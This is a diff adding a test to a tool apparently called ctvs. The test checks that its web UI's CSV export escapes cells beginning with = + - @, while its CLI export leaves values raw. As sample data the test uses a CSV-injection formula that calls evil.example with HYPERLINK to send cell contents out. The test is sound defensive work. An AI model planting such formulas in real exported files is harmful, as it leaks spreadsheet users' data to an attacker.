@@ -64,3 +64,31 @@ test("ctvs ui serves on loopback with a per-start token every request needs, and
     await tmp.remove();
   }
 });
+
+test("ctvs ui's CSV download shows a recorded formula as text: a cell starting with = + - @ gets a leading '", async () => {
+  const tmp = await tempDir();
+  const child = startCtvs(["ui", "--config", await config(tmp.dir)]);
+  try {
+    const url = new URL((await child.waitFor(/^ctvs ui: /, 30_000)).slice("ctvs ui: ".length));
+    const sql = `select '=HYPERLINK("http://evil.example/?"&A1,"Click")' as a, '+1+cmd' as b, '@SUM(1)' as c, ` +
+      `'-2+3' as d, 'plain' as e, -5 as n, 1.5 as x`;
+    const csv = new URL("/api/sql.csv", url);
+    csv.search = new URLSearchParams({ sql, token: url.searchParams.get("token")! }).toString();
+    const response = await fetch(csv);
+    assert.equal(response.status, 200);
+    assert.equal(
+      await response.text(),
+      `a,b,c,d,e,n,x\n"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+1+cmd,'@SUM(1),'-2+3,plain,-5,1.5\n`,
+    );
+    // The CLI's CSV is for programs: it stays as the values are.
+    const cli = await ctvs(["query", "sql", sql, "--format", "csv", "--config", await config(tmp.dir)]);
+    assert.equal(
+      cli.stdout,
+      `a,b,c,d,e,n,x\n"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+1+cmd,@SUM(1),-2+3,plain,-5,1.5`,
+    );
+  } finally {
+    child.kill("SIGTERM");
+    await child.exited;
+    await tmp.remove();
+  }
+});
